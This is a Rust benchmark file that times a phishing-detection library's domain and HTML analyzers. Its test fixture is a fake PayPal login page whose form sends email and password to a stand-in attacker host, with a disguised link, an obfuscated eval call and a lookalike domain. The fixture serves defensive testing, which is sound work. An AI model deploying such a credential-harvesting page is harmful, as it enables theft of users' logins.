use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use zeroday_backend_core::utils::{DomainAnalyzer, HtmlAnalyzer};

const LOGIN_PAGE: &str = r#"<html><head><title>PayPal - Log In</title>
<script src="https://cdn.tracker.example/collect.js"></script></head>
<body><img class="logo" src="/paypal.png"><h1>Log in to your PayPal account</h1>
<form action="https://collector.evil.example/submit" method="post">
<input type="email" name="email"><input type="password" name="password">
<button type="submit">Log In</button></form>
<a href="https://evil.example/a">www.paypal.com</a>
<script>eval(atob("YWxlcnQoMSk="));</script></body></html>"#;

fn bench_analyze_domain(c: &mut Criterion) {
    let analyzer = DomainAnalyzer::default();
    let mut group = c.benchmark_group("analyze_domain");

    let urls = vec![
        ("clean", "https://example.com/pricing"),
        ("lookalike", "http://paypa1-secure-login.tk/account"),
        ("deep_subdomains", "https://login.secure.account.verify.example.com"),
        ("raw_ip", "http://192.168.10.4/login"),
    ];

    for (name, url) in urls {
        group.throughput(Throughput::Elements(1));
        group.bench_with_input(BenchmarkId::from_parameter(name), &url, |b, url| {
            b.iter(|| analyzer.analyze_domain(black_box(url)));
        });
    }
    group.finish();
}

fn bench_analyze_html(c: &mut Criterion) {
    let analyzer = HtmlAnalyzer::default();
    let mut group = c.benchmark_group("analyze_html");

    let large_page = format!(
        "<html><body>{}</body></html>",
        "<p><a href=\"/docs\">Docs</a> Lorem ipsum dolor sit amet.</p>".repeat(2000)
    );

    group.throughput(Throughput::Bytes(LOGIN_PAGE.len() as u64));
    group.bench_function("login_page", |b| {
        b.iter(|| analyzer.analyze(black_box(LOGIN_PAGE), "https://paypal-verify.example", None));
    });

    group.throughput(Throughput::Bytes(large_page.len() as u64));
    group.bench_function("large_page", |b| {
        b.iter(|| analyzer.analyze(black_box(&large_page), "https://example.com", None));
    });
    group.finish();
}

criterion_group!(benches, bench_analyze_domain, bench_analyze_html);
criterion_main!(benches);
